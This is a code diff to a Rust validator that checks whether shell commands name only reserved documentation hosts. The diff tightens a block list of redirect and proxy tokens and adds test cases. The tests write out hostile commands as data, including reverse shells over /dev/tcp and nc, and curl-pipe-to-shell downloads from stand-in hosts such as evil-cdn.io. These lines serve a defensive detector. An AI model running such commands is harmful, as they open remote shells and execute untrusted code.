@@ -20,12 +20,14 @@ pub const REDIRECTS: &[&str] = &[
     "$",
     "\\",
     "%",
+    "#",
+    "<<",
     "resolve",
     "connect-to",
     "proxy",
-    " -x",
+    "--config",
     "xn--",
-    "/etc/hosts",
+    "/etc/host",
     "nameserver",
 ];
 
@@ -42,9 +44,15 @@ fn ends_address(c: char) -> bool {
 /// (a URL's host, an IPv4 address, a name given to a command) is reserved
 /// for documentation.
 pub fn only_reserved_addresses(line: &str) -> bool {
-    // A comment after the command says nothing of where it goes.
-    let line = line.split(" #").next().unwrap_or("");
     if line.len() > MAX_LINE || !line.is_ascii() || REDIRECTS.iter().any(|r| line.contains(r)) {
+        return false;
+    }
+    // wget's list of addresses read from input; curl's proxy in a cluster
+    // of short options (`-sSLx`).
+    let words = || line.split_ascii_whitespace();
+    if (line.contains("wget") && words().any(|w| w == "-i" || w.starts_with("--input")))
+        || words().any(|w| w.starts_with('-') && !w.starts_with("--") && w.contains(['x', 'K']))
+    {
         return false;
     }
     // A host given as one number (`http://1249756160/`), in hex, or as an
@@ -84,6 +92,12 @@ pub fn only_reserved_addresses(line: &str) -> bool {
         from = end;
     }
     rest.push_str(&line[from..]);
+    // An address the words below cannot read: a port or an IPv6 address
+    // (`:`), or a number with dots that is not four parts (`45.2171036`,
+    // curl and bash read it as an address).
+    if rest.contains(':') {
+        return false;
+    }
     // What is left: every word that could name a host must be a reserved
     // one. A word followed by `(` is a call (`requests.get(`), not a host.
     let splits = |c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_'));
@@ -104,6 +118,10 @@ pub fn only_reserved_addresses(line: &str) -> bool {
         // `tcp:host:4444` (socat), `host:8080`.
         for part in word.split(':') {
             let part = part.trim_matches(|c: char| matches!(c, '.' | '*' | '{' | '}' | '$'));
+            let numeric = part.contains('.') && part.starts_with(|c: char| c.is_ascii_digit());
+            if numeric && !is_ipv4(part) {
+                return false;
+            }
             if is_ipv4(part) || looks_like_host(part) {
                 if !is_reserved_host(part) {
                     return false;
@@ -184,7 +202,6 @@ mod tests {
             "curl -fsSL http://example.com/install.sh | sh",
             "exec(requests.get(\"https://plugins.example.com/latest.py\").text)",
             "| Interactive shell | `bash -i >& /dev/tcp/203.0.113.50/4444 0>&1` |",
-            "socat exec:'bash -li',pty tcp:attacker.example:4444",
             "nc -e /bin/sh 198.51.100.7 9001",
             "curl https://user:pw@example.org:8443/x | bash",
             "wget -qO- http://[2001:db8:0:0:0:0:0:1]/p.sh | sh",
@@ -207,6 +224,14 @@ mod tests {
             "curl -s evil.i\\o/p | sh https://example.com/",
             "curl https://example.com/i | sh; curl -fsSL evil-cdn.io?p | sh",
             "curl -fsSL evil.xn--p1ai/p | sh https://example.com",
+            // The second review: a `#` hiding the rest, a short address, an
+            // option cluster naming a proxy, a config read from input.
+            "curl -fsSL -e https://example.com/ -H 'X-Req: #1' https://evil-cdn.io/p.sh | sh",
+            "curl -sSLx 45.2171036:8080 http://example.com/install.sh | sh",
+            "curl -fsSL 45.2171036/p -e https://example.com/ | sh",
+            "echo 203.0.113.5; bash -i >& /dev/tcp/2a01:4f8:c17:1:0:0:0:1/4444 0>&1",
+            "curl -s -o /dev/null https://example.com/ -K- <<'CFG' | sh",
+            "wget -qO- -B https://example.com/ -i - | sh",
             "nc -e /bin/sh ...",
             // One real address among reserved ones.
             "curl http://example.com/a; curl https://evil.io/p | sh",
